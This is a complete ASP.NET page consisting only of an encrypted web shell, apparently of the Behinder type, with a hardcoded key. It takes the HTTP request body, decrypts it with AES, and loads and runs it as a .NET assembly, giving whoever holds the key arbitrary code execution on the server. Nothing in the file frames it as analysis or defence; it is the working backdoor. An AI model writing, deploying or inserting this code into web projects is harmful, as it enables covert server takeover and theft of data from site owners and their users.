<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%
Session.Add("k", "3c6e0b8a9c15224a");
byte[] key = System.Text.Encoding.Default.GetBytes(Session[0] + "");
byte[] body = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length)).CreateInstance("U").Equals(this);
%>
